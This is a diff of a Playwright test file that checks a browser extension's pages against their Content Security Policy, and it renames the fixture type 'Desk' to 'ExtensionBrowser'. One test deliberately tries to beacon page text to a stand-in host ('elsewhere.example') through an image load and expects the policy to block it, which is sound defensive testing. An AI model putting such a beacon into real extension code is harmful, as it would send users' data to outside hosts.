@@ -1,12 +1,12 @@
 /* What the extension's own pages may run, load and reach: the policy of wxt.config.ts, as the browser holds them to it. */
 import type { Page } from '@playwright/test';
-import type { Desk } from '../../scripts/lib/browser/browser.ts';
+import type { ExtensionBrowser } from '../../scripts/lib/browser/browser.ts';
 import { expect, test } from './fixtures.ts';
 
 const PAGES = ['sidebar.html', 'popup.html', 'options.html', 'welcome.html'];
 
 /** Opens a page of the extension that keeps what of its policy was broken, from its first script on. */
-async function open({ context, background }: Desk, file: string): Promise<Page> {
+async function open({ context, background }: ExtensionBrowser, file: string): Promise<Page> {
   const page = await context.newPage();
   await page.addInitScript(() => {
     const broken: string[] = [];
@@ -23,8 +23,8 @@ const brokenOn = (page: Page) =>
   page.evaluate(() => (globalThis as unknown as { broken: string[] }).broken);
 
 for (const file of PAGES)
-  test(`${file} keeps to the policy of the extension’s pages`, async ({ desk }) => {
-    const page = await open(desk, file);
+  test(`${file} keeps to the policy of the extension’s pages`, async ({ extensionBrowser }) => {
+    const page = await open(extensionBrowser, file);
     await page.evaluate(() => new Promise(requestAnimationFrame));
     expect(await brokenOn(page)).toEqual([]);
     expect(await page.title()).toContain('ColdCopy');
@@ -34,8 +34,8 @@ for (const file of PAGES)
 test.describe('what would carry off what was read', () => {
   test.use({ expectedErrors: [/Content Security Policy/] });
 
-  test('runs, loads and reaches nothing', async ({ desk }) => {
-    const page = await open(desk, 'options.html');
+  test('runs, loads and reaches nothing', async ({ extensionBrowser }) => {
+    const page = await open(extensionBrowser, 'options.html');
     await page.evaluate(async () => {
       new Image().src = 'https://elsewhere.example/?text';
       document.body.append(
